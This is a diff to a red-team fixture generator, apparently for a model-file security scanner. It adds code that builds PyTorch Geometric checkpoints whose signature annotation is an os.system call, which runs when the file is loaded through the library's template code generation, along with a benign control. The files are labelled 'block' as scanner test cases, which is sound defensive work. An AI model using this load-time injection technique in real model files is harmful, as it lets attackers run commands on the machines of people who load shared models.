@@ -869,7 +869,92 @@ def make_polyglots() -> None:
         "a torch tar checkpoint with a harmless pickle member whose first header's name field is a pickle: pickle.load of the file runs it")
 
 
+# ---------------------------------------------------------------- P2: library code generation at load
+
+def make_codegen(kept: dict[str, bytes]) -> None:
+    """PyG's MessagePassing.__setstate__ (every message-passing layer) and Sequential.__setstate__
+    render a Jinja template with strings from the pickled state (an Inspector's signature reprs),
+    write it to a temporary .py file and import it (torch_geometric.template.module_from_template):
+    a return annotation that is code runs at load. The allowlist screen did not follow the call into
+    that module-level function (red team 16a, S1 and S1b). These are the real layers with one
+    signature's return type swapped for code (and their typing-annotated hook dicts made plain, so
+    that only allowlisted names appear); pickling them runs nothing. Built where torch_geometric is
+    installed (/tmp/precision3/venv); elsewhere the files already written are kept as they are."""
+    C = "codegen"
+    files = {
+        "pyg_gcnconv_annotation.pt": ("block", "P2", ["torch_geometric.nn.conv.gcn_conv.GCNConv"],
+                                      "torch.save of a PyG GCNConv whose update() signature returns code: "
+                                      "MessagePassing.__setstate__ renders and imports propagate.jinja"),
+        "pyg_simpleconv_annotation.pkl": ("block", "P2", ["torch_geometric.nn.conv.simple_conv.SimpleConv"],
+                                          "pickle of a PyG SimpleConv (no tensors) whose update() signature returns code"),
+        "pyg_simpleconv_annotation.joblib": ("block", "P2", ["torch_geometric.nn.conv.simple_conv.SimpleConv"],
+                                             "joblib.dump of the same SimpleConv"),
+        "pyg_sequential_annotation.pt": ("block", "P2", ["torch_geometric.nn.sequential.Sequential"],
+                                         "torch.save of a PyG Sequential whose signature returns code: its "
+                                         "__setstate__ renders and imports sequential.jinja (BUILD alone runs it)"),
+        "benign_pyg_gcnconv_state_dict.pt": ("pass", None, [], "a PyG GCNConv's state_dict saved by torch.save"),
+    }
+    try:
+        made = pyg_files()
+    except ImportError:
+        made = {name: kept[name] for name in files if name in kept}
+        if len(made) != len(files):
+            raise SystemExit("make_attacks.py: torch_geometric is needed to write test/fixtures/redteam/codegen/")
+    for name, (expect, threat, mentions, note) in files.items():
+        out(C, name, made[name], expect, threat, mentions, note)
+
+
+def pyg_files() -> dict[str, bytes]:
+    import collections
+    import joblib
+    import torch
+    from torch_geometric.inspector import Parameter, Signature
+    from torch_geometric.nn import GCNConv, Sequential, SimpleConv
+
+    code = f"__import__('os').system('{CMD}') and Tensor or Tensor"
+
+    def plain(module):
+        for m in module.modules():
+            for k, v in list(m.__dict__.items()):
+                if isinstance(v, collections.OrderedDict) and hasattr(v, "__orig_class__"):
+                    m.__dict__[k] = collections.OrderedDict(v)
+        return module
+
+    def typed(sig, returns):
+        params = {n: Parameter(p.name, torch.Tensor, p.type_repr, None) for n, p in sig.param_dict.items()}
+        return Signature(params, torch.Tensor, returns)
+
+    def arm(conv):
+        sigs = conv.inspector._signature_dict
+        for k, sig in list(sigs.items()):
+            sigs[k] = typed(sig, sig.return_type_repr)
+        sigs["update"] = typed(sigs["update"], code)
+        return plain(conv)
+
+    def saved(obj) -> bytes:
+        buf = io.BytesIO()
+        torch.save(obj, buf)
+        return buf.getvalue()
+
+    torch.manual_seed(0)
+    simple = arm(SimpleConv())
+    joblib_buf = io.BytesIO()
+    joblib.dump(simple, joblib_buf)
+    seq = Sequential("x", [(torch.nn.Identity(), "x -> x")])
+    seq.signature = typed(seq.signature, code)
+    seq.__dict__.pop("forward", None)
+    seq._caller_module = "torch"
+    return {
+        "pyg_gcnconv_annotation.pt": saved(arm(GCNConv(4, 4))),
+        "pyg_simpleconv_annotation.pkl": pickle.dumps(simple, protocol=4),
+        "pyg_simpleconv_annotation.joblib": joblib_buf.getvalue(),
+        "pyg_sequential_annotation.pt": saved(plain(seq)),
+        "benign_pyg_gcnconv_state_dict.pt": saved(GCNConv(4, 4).state_dict()),
+    }
+
+
 def main() -> None:
+    kept = {f.name: f.read_bytes() for f in (OUT / "codegen").glob("*") if f.is_file()}
     for f in OUT.rglob("*"):
         if f.is_file():
             f.unlink()
@@ -883,6 +968,7 @@ def main() -> None:
     make_cython()
     make_public()
     make_polyglots()
+    make_codegen(kept)
     (OUT / "manifest.json").write_text("[\n" + ",\n".join(json.dumps(e) for e in MANIFEST) + "\n]\n")
     n_bad = sum(e["expect"] == "block" for e in MANIFEST)
     print(f"{len(MANIFEST)} files: {n_bad} malicious, {len(MANIFEST) - n_bad} benign")
